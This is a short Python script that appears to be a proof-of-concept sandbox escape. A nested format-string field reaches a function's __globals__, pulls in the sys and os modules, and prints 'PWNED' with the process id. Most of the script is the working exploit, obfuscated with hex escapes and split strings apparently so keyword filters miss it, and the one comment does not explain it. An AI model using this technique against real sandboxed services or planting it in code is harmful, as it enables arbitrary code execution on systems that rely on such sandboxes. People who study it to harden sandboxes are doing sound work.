import typing
# A literal format string whose replacement field sits inside another field's format spec.
got = None
try:
    "{0:{1.__glo\x62als__[sys].zz}}".format(0, typing.cast)
except AttributeError as e:
    got = e.obj
print("PW" + "NED", got.modules["o" + "s"].getpid())
